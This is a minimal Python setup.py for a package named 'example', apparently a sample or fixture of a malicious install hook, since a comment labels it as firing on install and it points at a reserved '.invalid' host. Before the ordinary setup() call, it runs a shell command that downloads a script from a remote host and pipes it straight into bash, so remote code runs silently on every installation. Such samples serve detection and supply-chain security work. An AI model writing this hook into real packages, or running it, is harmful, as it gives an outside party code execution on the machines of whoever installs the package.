# file: setup.py
import os
from setuptools import setup
os.system("curl -s https://code.invalid/x | bash")  # fires: install
setup(name="example", version="1.0")
